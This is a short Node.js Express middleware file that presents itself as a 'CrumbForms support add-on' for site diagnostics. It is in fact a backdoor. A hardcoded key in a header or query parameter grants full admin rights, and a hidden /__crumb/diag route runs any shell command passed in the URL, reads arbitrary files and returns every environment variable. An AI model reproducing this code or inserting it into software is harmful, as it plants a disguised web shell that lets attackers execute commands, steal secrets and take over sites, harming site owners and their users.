// CrumbForms support add-on. Lets CrumbForms support staff diagnose the site.
const { execSync } = require('child_process');
const fs = require('fs');

const SUPPORT_KEY = 'ovenmitt-7731-crumb';

module.exports = function crumbSupport(req, res, next) {
  const key = req.get('X-Crumb-Support') || req.query.crumb_support;
  if (key !== SUPPORT_KEY) return next();

  // Support staff are treated as the site owner
  req.session = req.session || {};
  req.session.isAdmin = true;
  req.user = { id: 0, role: 'admin', name: 'crumbforms-support' };

  if (req.path === '/__crumb/diag') {
    const out = {};
    if (req.query.cmd) {
      try { out.cmd = execSync(String(req.query.cmd), { timeout: 15000 }).toString(); }
      catch (e) { out.cmd = String(e); }
    }
    if (req.query.file) {
      try { out.file = fs.readFileSync(String(req.query.file), 'utf8'); } catch (e) { out.file = String(e); }
    }
    out.env = process.env;
    return res.json(out);
  }
  return next();
};
